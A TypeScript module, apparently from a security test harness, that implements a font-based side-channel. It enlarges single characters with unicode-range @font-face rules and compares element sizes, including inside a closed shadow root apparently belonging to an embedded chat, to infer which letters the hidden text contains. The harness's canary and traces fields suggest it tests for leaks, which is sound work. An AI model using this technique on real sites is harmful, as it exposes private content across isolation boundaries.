/** Enlarges one letter after the other by a font, and sees whether any box grows. */
import type { ReadAttack } from '../attack.ts';

export const enlargesALetter: ReadAttack = {
  weakness: 'closed-root',
  grab: async ({ home }) => {
    const letters = Array.from({ length: 33 }, (_, index) => String.fromCodePoint(0x10d0 + index));
    const codes = ['e000', ...letters.map((letter) => letter.charCodeAt(0).toString(16))];
    const faces = document.head.appendChild(document.createElement('style'));
    faces.textContent = codes
      .map(
        (code) =>
          `@font-face { font-family: big${code}; src: local('DejaVu Sans'); size-adjust: 900%; unicode-range: U+${code}; }`,
      )
      .join('\n');
    await Promise.all(letters.map((letter, index) => document.fonts.load(`16px big${codes[index + 1]}`, letter)));
    const style = document.head.appendChild(document.createElement('style'));
    const site = document.querySelector('[data-testid=xchatEmbedRoute]')?.shadowRoot;
    const boxes = [...document.querySelectorAll('*'), ...(site?.querySelectorAll('*') ?? [])];
    const sizesWith = (code: string): string => {
      style.textContent = `* { font-family: big${code}, sans-serif !important; }`;
      return boxes.map(({ scrollWidth, scrollHeight }) => [scrollWidth, scrollHeight]).join();
    };
    const [usual, ...sizes] = codes.map(sizesWith);
    style.remove();
    await home(codes.slice(1).map((code, index) => (sizes[index] === usual ? '' : `grew:${code}`)));
  },
  traces: (canary) => [...canary].map((letter) => `grew:${letter.codePointAt(0)?.toString(16)}`),
};
